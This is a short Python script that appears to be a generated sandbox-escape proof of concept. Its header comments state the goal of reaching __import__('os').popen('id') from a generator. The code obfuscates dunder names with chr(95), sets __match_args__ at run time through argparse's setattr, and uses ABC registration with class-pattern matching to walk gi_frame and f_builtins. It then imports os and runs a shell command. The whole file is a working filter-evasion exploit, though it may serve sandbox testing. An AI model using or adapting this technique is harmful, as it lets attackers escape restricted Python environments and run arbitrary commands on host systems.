# source: Python docs abc.ABCMeta.register (virtual subclasses make isinstance() true) + PEP 634 class patterns (positional captures read __match_args__ at run time) + CPython argparse setattr(namespace, dest, value)
# family: class statement of the script deriving from an ABC; register() makes any type an instance; __match_args__ set at run time by argparse's setattr (namespace passed positionally)
# goal: generator -> gi_frame -> f_builtins -> __import__('os').popen('id')
import argparse
import collections.abc
import json


class G(collections.abc.Generator):
    def send(self, v):
        return v

    def throw(self, *a):
        return None


def gen():
    yield 1


u = chr(95)
opt = "--" + u + u + "match" + u + "args" + u + u
names = []
p = argparse.ArgumentParser()
p.add_argument(opt, type=lambda s: tuple(names))


def set_args(*xs):
    names.clear()
    names.extend(xs)
    p.parse_args([opt, "x"], G)


g = gen()
G.register(type(g))
set_args("gi" + u + "frame")
match g:
    case G(fr):
        pass
G.register(type(fr))
set_args("f" + u + "builtins")
match fr:
    case G(b):
        pass
o = b[u + u + "import" + u + u]("o" + "s")
G.register(type(o))
set_args("po" + "pen")
match o:
    case G(pp):
        pass
print(json.dumps({"frame": repr(fr)[:80], "id": pp("id").read()}))
